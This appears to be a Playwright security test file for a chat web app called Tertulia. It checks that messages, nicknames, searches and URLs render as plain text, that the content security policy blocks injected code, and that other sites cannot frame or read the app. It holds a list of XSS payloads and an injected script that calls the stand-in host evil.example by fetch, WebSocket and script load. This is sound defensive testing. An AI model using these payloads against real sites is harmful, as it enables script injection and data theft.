/**
 * A real browser runs, sends and shows nothing more than it should, whatever it receives.
 */
import assert from 'node:assert/strict';
import { once } from 'node:events';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { after, before, type TestContext, test } from 'node:test';
import { isDeepStrictEqual } from 'node:util';
import type { Browser, Page } from 'playwright-core';
import { type Cleanup, DEADLINE_MS, eventually } from '../helpers/eventually.ts';
import { type Gateway, startGateway } from '../helpers/gateway.ts';
import { ChatPage, openBrowser, openPage } from '../helpers/page/browser.ts';
import { builtRoom } from '../helpers/room.ts';
import { enter } from '../helpers/tcp.ts';
import { comeIn, roomAndGateway, shared } from './connect.ts';

const open = shared();
const locked = shared({ ACCESS_CODE: 'sésamo' });
let browser: Browser;
const clears: (() => unknown)[] = [];

before(async () => {
  browser = await openBrowser({ after: (clear) => clears.push(clear) });
});
after(async () => {
  for (const clear of clears) await clear();
});

/** Each would call `alert`, open a dialog, or leave the page, if it were more than text. */
const ATTACKS = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '"><iframe srcdoc="<script>parent.alert(1)</script>">',
  'javascript:alert(1)',
  'http://x.example/"onmouseover="alert(1)',
  '{{alert(1)}}',
  '<a href="javascript:alert(1)">aquí</a>',
  '</title><script>alert(1)</script>',
  '`<img src=x onerror=alert(1)>`',
];

/** A page that must do nothing but show text. */
async function watchedPage(t: TestContext, gateway: Gateway) {
  const page = await openPage(browser, gateway.url);
  t.after(() => page.page.context().close());
  const wrong: string[] = [];
  const { page: tab } = page;
  tab.on('dialog', (dialog) => {
    wrong.push(`dialog ${dialog.message()}`);
    void dialog.dismiss();
  });
  tab.on('framenavigated', (frame) => wrong.push(`went to ${frame.url()}`));
  tab.on('popup', (popup) => wrong.push(`opened ${popup.url()}`));
  tab.on('request', (request) => {
    if (new URL(request.url()).host !== new URL(gateway.url).host) wrong.push(`asked ${request.url()}`);
  });
  return { page, wrong };
}

async function holdsNoMarkup(page: ChatPage): Promise<void> {
  const made = await page.page.evaluate(() => {
    const roots: (Document | ShadowRoot)[] = [document];
    for (const root of roots) {
      for (const element of root.querySelectorAll('*'))
        if (element.shadowRoot) roots.push(element.shadowRoot);
    }
    const found = roots.flatMap((root) => [
      ...root.querySelectorAll('iframe, img[src=x], [onerror], [onload], script:not([src])'),
    ]);
    const links = roots.flatMap((root) => [...root.querySelectorAll('a')]).map(({ href }) => href);
    return [...found.map(({ outerHTML }) => outerHTML), ...links.filter((href) => !/^https?:/.test(href))];
  });
  assert.deepEqual(made, []);
}

test('no message of a browser or a terminal runs as a script', async (t) => {
  const { gateway, room } = open;
  const [tab, terminal] = [await comeIn(t, gateway), await enter(t, room.port)];
  const { page, wrong } = await watchedPage(t, gateway);
  for (const attack of ATTACKS) await tab.receivesReceipt(tab.say(attack), 'heard');
  for (const attack of ATTACKS) terminal.send(`${attack}\n`);
  terminal.send('fin de los ataques\n');
  await page.shows('fin de los ataques');
  await page.shows('<svg onload=alert(1)>');
  await holdsNoMarkup(page);
  assert.deepEqual(wrong, []);
});

test('no nickname runs as a script, in messages or in the people sheet', async (t) => {
  const { gateway } = open;
  const tab = await comeIn(t, gateway);
  for (const name of ['"onclick=alert(1)', '&lt;script&gt;', 'a"b\'c&d', '<img src=x>']) {
    tab.send({ type: 'name', name });
    await tab.receivesReceipt(tab.say(`<${name}> hola`), 'heard');
  }
  await tab.receivesReceipt(tab.say('<<script>alert(1)</script>> hola'), 'heard');
  const { page, wrong } = await watchedPage(t, gateway);
  await page.shows('alert(1)');
  await page
    .button(/^Gente|^Personas|^Quién/)
    .first()
    .click();
  await page.page.locator('person-row').first().waitFor();
  await holdsNoMarkup(page);
  assert.deepEqual(wrong, []);
});

test('no search and no result of it runs as a script', async (t) => {
  const { gateway } = open;
  const tab = await comeIn(t, gateway);
  await tab.receivesReceipt(tab.say('aguja <img src=x onerror=alert(1)>'), 'heard');
  const { page, wrong } = await watchedPage(t, gateway);
  await page.button('Buscar').click();
  const field = page.page.getByRole('searchbox');
  await field.fill('<img src=x onerror=nadie(1)>');
  await page.page
    .locator('search-panel')
    .getByText('No hay mensajes con «<img src=x onerror=nadie(1)>».')
    .waitFor();
  await holdsNoMarkup(page);
  await field.fill('aguja');
  await page.page.locator('search-panel').getByText('onerror').first().waitFor();
  await holdsNoMarkup(page);
  assert.deepEqual(wrong, []);
});

test('no private text of the server runs as a script', async (t) => {
  const room = await builtRoom(t, 'echo');
  const gateway = await startGateway(t, room.port);
  const { page, wrong } = await watchedPage(t, gateway);
  await page.send('<img src=x onerror=alert(1)>');
  await page.page.getByText('<img src=x onerror=alert(1)>').first().waitFor();
  await holdsNoMarkup(page);
  assert.deepEqual(wrong, []);
});

test('transcript is a file to save, which a browser does not open as a page', async (t) => {
  const { gateway } = open;
  const tab = await comeIn(t, gateway);
  await tab.receivesReceipt(tab.say('<script>alert(1)</script>'), 'heard');
  for (const format of ['text', 'jsonl', 'html']) {
    const { headers } = await gateway.get(`/api/transcript?format=${format}`);
    assert.match(headers.get('content-disposition') ?? '', /^attachment/);
    assert.equal(headers.get('x-content-type-options'), 'nosniff');
    const isPage = /html|xml|svg/.test(headers.get('content-type') ?? '');
    assert.equal(isPage, format === 'html', 'the page is a file to save too');
  }
});

test('no address of the page with a script in it shows the script', async () => {
  const { gateway } = open;
  for (const path of [
    '/?q=<script>alert(1)</script>',
    '/#<img src=x onerror=alert(1)>',
    '/<script>alert(1)</script>',
  ]) {
    const tab = new ChatPage(await browser.newPage());
    let dialogs = 0;
    tab.page.on('dialog', (dialog) => {
      dialogs++;
      void dialog.dismiss();
    });
    await tab.page.goto(gateway.url + path);
    if (new URL(tab.page.url()).pathname === '/') await tab.page.getByRole('log').waitFor();
    await holdsNoMarkup(tab);
    assert.equal(dialogs, 0);
    await tab.page.close();
  }
});

/** Tries what an injected script would, and notes what the policy stopped. */
const INTRUDER = `(async () => {
  window.stopped = [];
  document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => stopped.push(effectiveDirective));
  const add = (name, fields) => document.body.append(Object.assign(document.createElement(name), fields));
  add('script', { textContent: 'alert(1)' });
  add('script', { src: 'https://evil.example/x.js' });
  add('img', { src: 'https://evil.example/x.png' });
  add('iframe', { src: 'https://evil.example/' });
  add('link', { rel: 'stylesheet', href: 'https://evil.example/x.css' });
  document.body.setAttribute('onclick', 'alert(1)');
  document.body.click();
  await fetch('https://evil.example/').catch(() => {});
  try {
    new WebSocket('wss://evil.example/');
  } catch {}
  setTimeout('alert(1)');
})()`;

const STOPPED = [
  'connect-src',
  'frame-src',
  'img-src',
  'script-src',
  'script-src-attr',
  'script-src-elem',
  'style-src-elem',
];

test('injected script is stopped: no inline code, no eval, no other host', async (t) => {
  const { gateway } = open;
  const { page, wrong } = await watchedPage(t, gateway);
  await page.page.evaluate(INTRUDER);
  let stopped: string[] = [];
  await eventually(
    async () => {
      stopped = [...new Set(await page.page.evaluate<string[]>('stopped'))].toSorted();
      return isDeepStrictEqual(stopped, STOPPED);
    },
    () => `the policy stopped ${stopped}`,
  );
  // The other reports are the attempts themselves.
  assert.deepEqual(
    wrong.filter((what) => what.startsWith('dialog')),
    [],
  );
});

test('page connects under the policy it is served with, without a console error', async (t) => {
  const { gateway } = open;
  const page = await openPage(browser, gateway.url);
  t.after(() => page.page.context().close());
  await page.send('todo en orden');
  await page.showsReceipt('todo en orden');
  assert.deepEqual(page.complaints, []);
});

/** The port of another site. */
async function emptySite(t: Cleanup): Promise<number> {
  const server = createServer((_request, response) =>
    response.setHeader('content-type', 'text/html').end('hola'),
  );
  t.after(() => server.close());
  server.listen(0, '127.0.0.1');
  await once(server, 'listening');
  return (server.address() as AddressInfo).port;
}

test('page of another site can neither frame the page, nor read or send through it', async (t) => {
  const { gateway } = open;
  const tab = await browser.newPage();
  t.after(() => tab.close());
  await tab.goto(`http://localhost:${await emptySite(t)}/`);
  const url = JSON.stringify(gateway.url);
  const seen = await tab.evaluate(`(async () => {
    const refused = () => 'refused';
    const read = await fetch(${url} + '/api/messages').then(({ status }) => status, refused);
    const blind = await fetch(${url} + '/api/messages', { mode: 'no-cors' }).then(({ type }) => type, refused);
    const code = await new Promise((resolve) => {
      const socket = new WebSocket(${url}.replace('http', 'ws') + '/ws', 'tertulia.v1');
      socket.onopen = () => socket.send('{"type":"hello"}');
      socket.onmessage = () => resolve('heard');
      socket.onclose = ({ code }) => resolve(code);
      setTimeout(() => resolve('nothing'), ${DEADLINE_MS});
    });
    return [read, blind, code];
  })()`);
  assert.deepEqual(seen, ['refused', 'refused', 4004]);
  assert.match(
    (await gateway.get('/')).headers.get('content-security-policy') ?? '',
    /frame-ancestors 'none'/,
  );
});

test('page without its script says so after 10 s, in both languages and without styles', async (t) => {
  const { gateway } = open;
  const tab = await browser.newPage();
  t.after(() => tab.close());
  await tab.route(/\.(js|css)$/, (route) => route.abort());
  await tab.goto(gateway.url);
  const visibleAt = (seconds: number) =>
    tab.locator('#late').evaluate((late, time) => {
      (late as SVGSVGElement).pauseAnimations();
      (late as SVGSVGElement).setCurrentTime(time);
      return getComputedStyle(late).visibility;
    }, seconds);
  assert.equal(await visibleAt(9), 'hidden');
  assert.equal(await visibleAt(10), 'visible');
  await tab.getByText('La página no arranca').waitFor();
  await tab.getByText('The page does not start').waitFor();
});

test('browser without JavaScript gets an explanation in both languages', async (t) => {
  const context = await browser.newContext({ javaScriptEnabled: false });
  t.after(() => context.close());
  const tab = await context.newPage();
  await tab.goto(open.gateway.url);
  // Playwright finds no text in elements that are shown only without scripts.
  const told = tab.locator('noscript p');
  assert.deepEqual(await told.allTextContents(), [
    'Tertulia necesita JavaScript para entrar en la sala.',
    'Tertulia needs JavaScript to enter the room.',
  ]);
  for (const sentence of await told.all()) await sentence.waitFor();
});

test('page with an origin that is not allowed names the setting', async (t) => {
  const { gateway } = open;
  const context = await browser.newContext({ locale: 'es-ES' });
  t.after(() => context.close());
  const tab = await context.newPage();
  // As behind a proxy that does not forward `Host`: page and WebSocket have other origins.
  await tab.routeWebSocket('**/ws', (socket) => socket.close({ code: 4004 }));
  await tab.goto(gateway.url);
  await tab.getByRole('status').filter({ hasText: 'ALLOWED_HOSTS' }).waitFor();
});

test('page asks for the passphrase, reports a wrong one, and keeps the right one', async (t) => {
  const { gateway } = locked;
  const inside = await comeIn(t, gateway, { path: '/ws?code=s%C3%A9samo' });
  await inside.receivesReceipt(inside.say('ya dentro'), 'heard');
  const context = await browser.newContext({ locale: 'es-ES' });
  t.after(() => context.close());
  const tab = await context.newPage();
  await tab.goto(gateway.url);
  const field = tab.getByLabel('Contraseña de la sala');
  await field.waitFor();
  const doors = tab.getByRole('button', { name: /^(Buscar|Quién está aquí|Invitar)$/ });
  assert.equal(await doors.count(), 0);
  await tab.locator('room-menu summary').click();
  await tab.getByRole('button', { name: 'Ajustes' }).waitFor();
  assert.equal(await tab.getByRole('button', { name: 'Guardar o imprimir' }).count(), 0);
  await tab.keyboard.press('Escape');
  await field.fill('no sé');
  await field.press('Enter');
  await tab.getByRole('alert').filter({ hasText: 'Contraseña incorrecta' }).waitFor();
  await field.fill('sésamo');
  await tab.getByRole('button', { name: 'Entrar' }).click();
  await tab.getByText('ya dentro').waitFor();
  await eventually(
    async () => (await doors.count()) === 3,
    () => 'not all buttons are shown',
  );

  const [download] = await Promise.all([tab.waitForEvent('download'), downloads(tab)]);
  assert.equal(download.suggestedFilename(), 'tertulia.txt');
  assert.equal(await download.failure(), null);

  const later = await context.newPage();
  await later.goto(gateway.url);
  await later.getByText('ya dentro').waitFor();
  assert.equal(await later.evaluate(() => document.cookie), '');
});

async function downloads(tab: Page): Promise<void> {
  await tab.locator('room-menu summary').click();
  await tab.getByRole('button', { name: 'Guardar o imprimir' }).click();
  await tab.locator('a[download="tertulia.txt"]').click();
}

test('page reports too many attempts', async (t) => {
  const { gateway } = await roomAndGateway(t, { ACCESS_CODE: 'sésamo' });
  const context = await browser.newContext({ locale: 'en-GB' });
  t.after(() => context.close());
  const tab = await context.newPage();
  await tab.goto(gateway.url);
  const field = tab.getByLabel('Room passphrase');
  await field.waitFor();
  for (let i = 0; i < 30; i++) {
    await tab.request.post(`${gateway.url}/api/enter`, { data: { code: `${i}` } });
  }
  await field.fill('sésamo');
  await field.press('Enter');
  await tab.getByRole('alert').filter({ hasText: 'Too many attempts' }).waitFor();
});

test('page reports a full room, and joins when there is a place', async (t) => {
  const { gateway } = await roomAndGateway(t, {
    MAX_SESSIONS: '1',
    SESSION_RESUME_MS: '0',
    RELOAD_RESUME_MS: '0',
  });
  const inside = await comeIn(t, gateway);
  const context = await browser.newContext({ locale: 'es-ES' });
  t.after(() => context.close());
  const tab = await context.newPage();
  await tab.goto(gateway.url);
  await tab.getByRole('status').filter({ hasText: 'La sala está llena' }).waitFor();
  inside.socket.close();
  await eventually(
    async () => (await tab.getByRole('status').textContent())?.includes('En la sala como'),
    () => 'did not come in',
  );
});
